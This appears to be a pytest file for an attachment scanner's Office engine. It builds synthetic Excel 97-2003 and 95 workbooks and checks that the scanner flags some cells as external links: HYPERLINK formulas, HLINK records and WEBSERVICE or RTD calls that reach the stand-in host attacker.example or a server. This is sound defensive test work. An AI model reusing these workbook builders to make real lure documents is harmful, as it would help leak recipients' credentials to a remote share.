@@ -1,0 +1,276 @@
+"""The cells of Excel 97-2003 and 5.0/95 workbooks: hyperlinks (HLINK records) and formulas
+(FORMULA, SHRFMLA, ARRAY) in the sheet substreams, judged as a .xlsx's (`formats.biffsheets`)."""
+
+from __future__ import annotations
+
+import struct
+import uuid
+
+import pytest
+
+from attachguard.codes import CORRUPT, ENCRYPTED, EXTERNAL_LINK, Code
+from attachguard.engines.base import Item, Result
+from attachguard.engines.office import OfficeEngine
+from attachguard.formats import ole
+from attachguard.formats.biffsheets import CellLink
+from attachguard.policy import Policy
+from attachguard.report import FileType
+from support.evasions import ole_tree
+
+ENGINE = OfficeEngine()
+EXCEL_CLSID = "00020820-0000-0000-C000-000000000046"
+SHARE = "\\\\attacker.example\\share\\invoice.xls"
+STD_HLINK = uuid.UUID("79EAC9D0-BAF9-11CE-8C82-00AA004BA90B").bytes_le
+URL_MONIKER = uuid.UUID("79EAC9E0-BAF9-11CE-8C82-00AA004BA90B").bytes_le
+FILE_MONIKER = uuid.UUID("00000303-0000-0000-C000-000000000046").bytes_le
+HYPERLINK, RTD, USER_DEFINED = 359, 379, 255
+IN_A_FORMULA = "HYPERLINK formula that opens a network share in the Excel workbook"
+IN_A_HYPERLINK = "hyperlink to a network share in the Excel workbook"
+FETCHING = (
+    "formula that fetches from another machine when Excel calculates it (WEBSERVICE, IMAGE, RTD"
+    " from a server) in the Excel workbook"
+)
+
+
+def record(rtype: int, data: bytes = b"") -> bytes:
+    return struct.pack("<HH", rtype, len(data)) + data
+
+
+def workbook(*cells: bytes, names: tuple[bytes, ...] = (), biff: int = 8, sheets: int = 1) -> bytes:
+    """A workbook stream: globals (BOF, ``names`` records, ``sheets`` BOUNDSHEETs, EOF), then
+    one worksheet substream holding ``cells``, which every BOUNDSHEET points at."""
+    if biff == 8:
+        bof = struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 6)
+        sheet_name = b"\x06\x00Orders"
+    else:
+        bof = struct.pack("<HHHH", 0x0500, 0x0005, 0x0DBB, 0x07CC)
+        sheet_name = b"\x06Orders"
+    head = record(0x0809, bof) + b"".join(names)
+    offset = len(head) + (4 + 6 + len(sheet_name)) * sheets + 4
+    boundsheet = record(0x0085, struct.pack("<IBB", offset, 0, 0) + sheet_name)
+    sheet_bof = bof[:2] + struct.pack("<H", 0x0010) + bof[4:]
+    sheet = record(0x0809, sheet_bof) + b"".join(cells) + record(0x000A)
+    return head + boundsheet * sheets + record(0x000A) + sheet
+
+
+def xls(stream: bytes, name: str = "Workbook") -> bytes:
+    return ole_tree({name: stream, "\x05SummaryInformation": bytes(64)}, EXCEL_CLSID)
+
+
+def scan(data: bytes, policy: Policy) -> Result:
+    return ENGINE.scan(Item("a.xls", data, FileType("xls", "", "document")), policy.context())
+
+
+def found(data: bytes, policy: Policy) -> list[tuple[Code, str]]:
+    return [(f.code, f.message) for f in scan(data, policy).findings]
+
+
+# -- formula tokens ------------------------------------------------------------------------------
+
+
+def text(value: str, biff: int = 8) -> bytes:
+    """PtgStr: a string constant."""
+    if biff == 5:
+        return bytes([0x17, len(value)]) + value.encode("cp1252")
+    return bytes([0x17, len(value), 1]) + value.encode("utf-16-le")
+
+
+def call(number: int, count: int) -> bytes:
+    """PtgFuncVar (value class): a call of function ``number`` with ``count`` arguments."""
+    return struct.pack("<BBH", 0x42, count, number)
+
+
+def formula(*tokens: bytes) -> bytes:
+    rgce = b"".join(tokens)
+    return record(0x0006, struct.pack("<HHH8sHIH", 0, 1, 15, bytes(8), 0, 0, len(rgce)) + rgce)
+
+
+def hyperlink_formula(target: str, biff: int = 8) -> bytes:
+    return formula(text(target, biff), text("Open invoice", biff), call(HYPERLINK, 2))
+
+
+# -- hyperlink objects ---------------------------------------------------------------------------
+
+
+def hlink(moniker: bytes, flags: int = 0x03, display: str | None = None) -> bytes:
+    """An HLINK record for cell A1: the hyperlink object's version 2, ``flags``, ``moniker``."""
+    shown = b""
+    if display is not None:
+        flags |= 0x14
+        shown = struct.pack("<I", len(display) + 1) + (display + "\0").encode("utf-16-le")
+    body = struct.pack("<HHHH", 0, 0, 0, 0) + STD_HLINK + struct.pack("<II", 2, flags)
+    return record(0x01B8, body + shown + moniker)
+
+
+def url_moniker(url: str) -> bytes:
+    address = (url + "\0").encode("utf-16-le")
+    return URL_MONIKER + struct.pack("<I", len(address)) + address
+
+
+def file_moniker(ansi: str, unicode: str = "", climbs: int = 0) -> bytes:
+    path = ansi.encode("cp1252") + b"\0"
+    body = struct.pack("<HI", climbs, len(path)) + path + struct.pack("<HH", 0xFFFF, 0xDEAD)
+    body += bytes(20)
+    if unicode:
+        wide = unicode.encode("utf-16-le")
+        body += struct.pack("<IIH", len(wide) + 6, len(wide), 3) + wide
+    else:
+        body += struct.pack("<I", 0)
+    return FILE_MONIKER + body
+
+
+def string_moniker(target: str) -> bytes:
+    return struct.pack("<I", len(target) + 1) + (target + "\0").encode("utf-16-le")
+
+
+# -- links to a share: EXTERNAL_LINK, as in a .xlsx ------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "target",
+    [SHARE, "file://attacker.example/share/invoice.xls", "\\\\?\\UNC\\attacker.example\\s\\x"],
+    ids=["unc", "file-host", "nt-unc"],
+)
+def test_hyperlink_formula_to_a_share(target: str, policy: Policy) -> None:
+    data = xls(workbook(hyperlink_formula(target)))
+    assert found(data, policy) == [(EXTERNAL_LINK, IN_A_FORMULA)]
+
+
+def test_hyperlink_inside_other_functions(policy: Policy) -> None:
+    # IF(A1>1, HYPERLINK("\\host\...", "a"), SUM(A1:A3)): the call is found where it nests
+    a1 = struct.pack("<BHH", 0x44, 0, 0)  # PtgRef A1
+    tokens = (a1, struct.pack("<BH", 0x1E, 1), b"\x0d", text(SHARE), text("a"), call(HYPERLINK, 2),
+              struct.pack("<BHHHH", 0x25, 0, 2, 0, 0), struct.pack("<BBH", 0x19, 0x10, 0),
+              call(1, 3))  # fmt: skip
+    assert found(xls(workbook(formula(*tokens))), policy) == [(EXTERNAL_LINK, IN_A_FORMULA)]
+
+
+@pytest.mark.parametrize("kind", [0x04BC, 0x0221], ids=["shared-formula", "array-formula"])
+def test_shared_and_array_formulas(kind: int, policy: Policy) -> None:
+    rgce = text(SHARE) + text("Open") + call(HYPERLINK, 2)
+    head = struct.pack("<HHBBBB", 0, 0, 1, 1, 0, 1) if kind == 0x04BC else bytes(12)
+    # the cell's own FORMULA points at the shared or array formula (PtgExp)
+    cell = formula(struct.pack("<BHH", 0x01, 0, 1))
+    stored = record(kind, head + struct.pack("<H", len(rgce)) + rgce)
+    assert found(xls(workbook(cell, stored)), policy) == [(EXTERNAL_LINK, IN_A_FORMULA)]
+
+
+@pytest.mark.parametrize(
+    "moniker",
+    [
+        url_moniker("file://attacker.example/share/invoice.xls"),
+        file_moniker(SHARE),
+        file_moniker("C:\\invoice.xls", unicode=SHARE),
+        string_moniker(SHARE),
+    ],
+    ids=["url-moniker", "file-moniker", "file-moniker-unicode-path", "saved-as-string"],
+)
+def test_hlink_record_to_a_share(moniker: bytes, policy: Policy) -> None:
+    flags = 0x103 if not moniker.startswith((URL_MONIKER, FILE_MONIKER)) else 0x03
+    data = xls(workbook(hlink(moniker, flags, display="Open invoice")))
+    assert found(data, policy) == [(EXTERNAL_LINK, IN_A_HYPERLINK)]
+
+
+def test_excel_95_formula(policy: Policy) -> None:
+    data = xls(workbook(hyperlink_formula(SHARE, biff=5), biff=5), name="Book")
+    assert found(data, policy) == [(EXTERNAL_LINK, IN_A_FORMULA)]
+
+
+# -- formulas that fetch: EXTERNAL_LINK, as in a .xlsx ---------------------------------------------
+
+
+def test_webservice_through_an_external_name(policy: Policy) -> None:
+    # Excel keeps a function newer than the format as an add-in's name: SUPBOOK (add-in
+    # functions), EXTERNNAME "_xlfn.WEBSERVICE", EXTERNSHEET entry 0 pointing at it
+    name = "_xlfn.WEBSERVICE"
+    names = (
+        record(0x01AE, struct.pack("<HH", 1, 0x3A01)),
+        record(0x0023, struct.pack("<HIBB", 0, 0, len(name), 0) + name.encode()),
+        record(0x0017, struct.pack("<HHHH", 1, 0, 0xFFFE, 0xFFFE)),
+    )
+    name_x = struct.pack("<BHHH", 0x39, 0, 1, 0)
+    cell = formula(name_x, text("http://example.com/rate"), call(USER_DEFINED, 2))
+    assert found(xls(workbook(cell, names=names)), policy) == [(EXTERNAL_LINK, FETCHING)]
+
+
+def test_webservice_through_a_defined_name(policy: Policy) -> None:
+    name = "_xlfn.WEBSERVICE"
+    defined = record(0x0018, struct.pack("<HBBHHHI", 0x0E, 0, len(name), 0, 0, 0, 0) + b"\0"
+                     + name.encode())  # fmt: skip
+    cell = formula(struct.pack("<BHH", 0x23, 1, 0), text("http://x/"), call(USER_DEFINED, 2))
+    data = xls(workbook(cell, names=(defined,)))
+    assert found(data, policy) == [(EXTERNAL_LINK, FETCHING)]
+
+
+def test_rtd_from_a_server(policy: Policy) -> None:
+    cell = formula(text("x.rtd"), text("server.example"), text("A"), call(RTD, 3))
+    assert found(xls(workbook(cell)), policy) == [(EXTERNAL_LINK, FETCHING)]
+
+
+# -- honest workbooks: nothing ---------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        hyperlink_formula("https://www.irs.gov/pub/irs-pdf/f1000.pdf"),
+        hyperlink_formula("mailto:orders@example.com?subject=Invoice"),
+        hyperlink_formula("C:\\Users\\me\\invoice.xls"),
+        hyperlink_formula("#Orders!A1"),
+        formula(text("Total: \\\\not a link"), text("x"), b"\x08"),  # text joined, no call
+        formula(text("x.rtd"), b"\x16", text("A"), call(RTD, 3)),  # RTD on this machine
+        hlink(url_moniker("https://example.com/invoice"), display="Invoice"),
+        hlink(url_moniker("mailto:orders@example.com")),
+        hlink(file_moniker("invoice.xls", climbs=1)),
+        hlink(file_moniker("C:\\invoices\\march.xls")),
+        hlink(string_moniker("Orders!A1"), flags=0x08),  # a place in this workbook only
+    ],
+    ids=["web", "mailto", "local-path", "this-workbook", "text", "rtd-local", "hlink-web",
+         "hlink-mailto", "hlink-relative", "hlink-local", "hlink-location"],
+)  # fmt: skip
+def test_honest_links_pass(cell: bytes, policy: Policy) -> None:
+    assert found(xls(workbook(cell)), policy) == []
+
+
+def test_hyperlink_text_on_a_share_is_only_text(policy: Policy) -> None:
+    # the friendly name (the second argument) is shown, never opened
+    cell = formula(text("https://example.com"), text(SHARE), call(HYPERLINK, 2))
+    assert found(xls(workbook(cell)), policy) == []
+
+
+# -- damage and limits ---------------------------------------------------------------------------
+
+
+def test_damaged_sheet_fails_closed(policy: Policy) -> None:
+    stream = workbook(hyperlink_formula("https://example.com"))
+    cut = stream[:-4] + struct.pack("<HH", 0x0006, 0x0FFF)  # a record past the stream's end
+    damaged = [(CORRUPT, "Excel workbook whose sheets could not all be read")]
+    assert found(xls(cut), policy) == damaged
+    assert [b.problems for b in ole.read_workbooks(xls(cut))] == [
+        (f"truncated record 0x0006 at offset {len(stream) - 4}",)
+    ]
+
+
+def test_a_formula_cut_short_is_read_as_far_as_it_goes(policy: Policy) -> None:
+    cell = formula(text(SHARE), text("a"), call(HYPERLINK, 2), b"\x18\x99")  # unknown token
+    assert found(xls(workbook(cell)), policy) == [(EXTERNAL_LINK, IN_A_FORMULA)]
+    assert found(xls(workbook(formula(b"\x17\xff\x01"))), policy) == []  # a string cut short
+
+
+def test_sheets_sharing_a_substream_are_walked_once() -> None:
+    [book] = ole.read_workbooks(xls(workbook(hyperlink_formula(SHARE), sheets=2000)))
+    assert len(book.sheets) == 2000 and book.problems == ()
+    assert book.cells == {CellLink.SHARE_FORMULA}
+
+
+def test_sheet_walk_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(ole, "MAX_RECORDS", 10)
+    filler = record(0x0203, bytes(14)) * 20  # NUMBER cells
+    [book] = ole.read_workbooks(xls(workbook(filler)))
+    assert book.problems == ("more than 10 records; the rest not read",)
+
+
+def test_encrypted_sheets_are_not_read(policy: Policy) -> None:
+    filepass = record(0x002F, struct.pack("<HHH", 0, 0x1234, 0x5678))
+    data = xls(workbook(hyperlink_formula(SHARE), names=(filepass,)))
+    assert [code for code, _ in found(data, policy)] == [ENCRYPTED]
